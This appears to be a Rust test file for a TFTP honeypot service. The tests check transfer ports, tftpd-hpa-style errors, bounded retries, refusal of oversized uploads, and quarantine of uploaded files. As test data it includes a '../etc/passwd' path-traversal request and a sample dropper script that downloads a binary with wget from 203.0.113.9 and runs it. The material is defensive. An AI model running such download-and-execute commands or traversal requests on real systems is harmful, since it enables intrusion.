//! TFTP transfers against a decky on loopback, packet by packet: every
//! transfer answers from a new port, errors are tftpd-hpa's, an
//! unacknowledged block is sent a bounded number of times, and an upload
//! past the bound is refused and still recorded.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use decnet_decky::listener::ServiceListener;
use decnet_decky::services::tftp::{MAX_UPLOAD, RETRIES};
use decnet_decky::sink::LineSink;
use decnet_decky::{DeckyContext, Limits, Persona};
use tokio::net::UdpSocket;

mod common;
use common::collector;

struct Server {
    _listener: ServiceListener,
    at: SocketAddr,
    lines: Arc<Mutex<Vec<String>>>,
}

async fn server() -> Server {
    server_keeping(None).await
}

/// A tftp decky whose uploads are kept in the quarantine `artifacts`.
async fn server_keeping(artifacts: Option<&std::path::Path>) -> Server {
    let (collector, lines) = collector().await;
    let sink = LineSink::start(collector, 1 << 20, Default::default());
    let persona = Persona::derive("tftp-01", Some("linux-server"), None, 1_764_000_000);
    let artifacts = artifacts.map(|dir| {
        let store =
            decnet_decky::artifacts::ArtifactStore::open(dir, decnet_decky::artifacts::StoreLimits::default()).unwrap();
        Arc::new(decnet_decky::artifacts::Artifacts::new(store, Default::default()))
    });
    let keeping = decnet_decky::Keeping { artifacts, ..Default::default() };
    let ctx = DeckyContext::keeping("tftp-01", persona, sink, Limits::default(), b"seed", keeping);
    let listener = ServiceListener::open(ctx, "tftp", "127.0.0.1:0".parse().unwrap()).unwrap();
    Server { at: listener.addr, _listener: listener, lines }
}

/// The next packet and where it came from, within `wait`.
async fn recv(socket: &UdpSocket, wait: Duration) -> Option<(Vec<u8>, SocketAddr)> {
    let mut buf = vec![0u8; 2048];
    match tokio::time::timeout(wait, socket.recv_from(&mut buf)).await {
        Ok(Ok((n, from))) => Some((buf[..n].to_vec(), from)),
        _ => None,
    }
}

fn request(op: u8, name: &str, mode: &str) -> Vec<u8> {
    [&[0, op][..], name.as_bytes(), &[0], mode.as_bytes(), &[0]].concat()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_read_is_served_from_a_new_port_and_errors_are_tftpd_hpas() {
    let s = server().await;
    let client = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    client.send_to(&request(1, "startup-config", "octet"), s.at).await.unwrap();
    let mut content = Vec::new();
    let mut block = 1u16;
    loop {
        let (packet, from) = recv(&client, Duration::from_secs(3)).await.expect("a DATA block");
        assert_ne!(from.port(), s.at.port(), "the transfer must come from a new port");
        assert_eq!(&packet[..4], &[0, 3, (block >> 8) as u8, block as u8]);
        content.extend_from_slice(&packet[4..]);
        client.send_to(&[0, 4, (block >> 8) as u8, block as u8], from).await.unwrap();
        if packet.len() < 4 + 512 {
            break;
        }
        block += 1;
    }
    let text = String::from_utf8(content).unwrap();
    assert!(text.contains("hostname tftp-01-gw"), "{text}");

    for (req, code, message) in [
        (request(1, "nope.cfg", "octet"), 1u8, "File not found"),
        (request(1, "../etc/passwd", "octet"), 2, "Permission denied"),
        (request(1, "startup-config", "mail"), 4, "Unknown mode"),
    ] {
        client.send_to(&req, s.at).await.unwrap();
        let (packet, from) = recv(&client, Duration::from_secs(3)).await.expect("an ERROR");
        assert_ne!(from.port(), s.at.port());
        assert_eq!(packet, [&[0, 5, 0, code][..], message.as_bytes(), &[0]].concat());
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let lines = s.lines.lock().unwrap().clone();
    assert!(lines.iter().any(|l| l.contains(r#"filename="../etc/passwd""#) && l.contains(r#"opcode="RRQ""#)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unacknowledged_block_is_sent_a_bounded_number_of_times() {
    let s = server().await;
    let client = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    client.send_to(&request(1, "startup-config", "octet"), s.at).await.unwrap();
    let mut sent = 0;
    while let Some((packet, _)) = recv(&client, Duration::from_secs(3)).await {
        assert_eq!(&packet[..4], &[0, 3, 0, 1], "only block 1, resent");
        sent += 1;
        assert!(sent <= RETRIES, "more than {RETRIES} sends");
    }
    assert_eq!(sent, RETRIES);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_past_the_bound_is_refused_and_still_recorded() {
    let s = server().await;
    let client = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    client.send_to(&request(2, "big.bin", "octet"), s.at).await.unwrap();
    let (ack, transfer) = recv(&client, Duration::from_secs(3)).await.expect("ACK 0");
    assert_eq!(ack, [0, 4, 0, 0]);
    let block = [0x5au8; 512];
    let blocks = MAX_UPLOAD / 512 + 1;
    let mut last = Vec::new();
    for n in 1..=blocks {
        let n = n as u16;
        client.send_to(&[&[0, 3, (n >> 8) as u8, n as u8][..], &block].concat(), transfer).await.unwrap();
        let (reply, _) = recv(&client, Duration::from_secs(3)).await.expect("an answer to each block");
        last = reply;
        if last[1] == 5 {
            assert_eq!(n as usize, blocks, "refused before the bound");
            break;
        }
        assert_eq!(last, [0, 4, (n >> 8) as u8, n as u8]);
    }
    assert_eq!(last, [&[0, 5, 0, 3][..], b"Disk full or allocation exceeded", &[0]].concat());
    tokio::time::sleep(Duration::from_millis(300)).await;
    let lines = s.lines.lock().unwrap().clone();
    let upload = lines.iter().find(|l| l.contains(" upload ")).unwrap_or_else(|| panic!("{lines:#?}"));
    assert!(upload.contains(&format!(r#"bytes="{MAX_UPLOAD}""#)) && upload.contains(r#"complete="false""#), "{upload}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_finished_upload_is_kept_in_the_quarantine_and_announced() {
    let dir = tempfile::tempdir().unwrap();
    let quarantine = dir.path().join("artifacts");
    let s = server_keeping(Some(&quarantine)).await;
    let client = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    client.send_to(&request(2, "payload.sh", "octet"), s.at).await.unwrap();
    let (ack, transfer) = recv(&client, Duration::from_secs(3)).await.expect("ACK 0");
    assert_eq!(ack, [0, 4, 0, 0]);
    let body = b"#!/bin/sh\ncd /tmp; wget http://203.0.113.9/x86; chmod +x x86; ./x86\n";
    client.send_to(&[&[0, 3, 0, 1][..], body].concat(), transfer).await.unwrap();
    let (last, _) = recv(&client, Duration::from_secs(3)).await.expect("ACK 1");
    assert_eq!(last, [0, 4, 0, 1]);
    tokio::time::sleep(Duration::from_millis(300)).await;
    let lines = s.lines.lock().unwrap().clone();
    let artifact = lines.iter().find(|l| l.contains(" artifact ")).unwrap_or_else(|| panic!("{lines:#?}"));
    let sha = decnet_decky::artifacts::sha256_hex(body);
    assert!(artifact.contains(&format!(r#"sha256="{sha}""#)), "{artifact}");
    assert!(
        artifact.contains(r#"source="upload""#) && artifact.contains(r#"path="/srv/tftp/payload.sh""#),
        "{artifact}"
    );
    assert!(artifact.contains(r#"mime="text/x-shellscript""#), "{artifact}");
    use std::os::unix::fs::PermissionsExt;
    let kept = quarantine.join(&sha);
    assert_eq!(std::fs::read(&kept).unwrap(), body);
    assert_eq!(std::fs::metadata(&kept).unwrap().permissions().mode() & 0o777, 0o600);
}
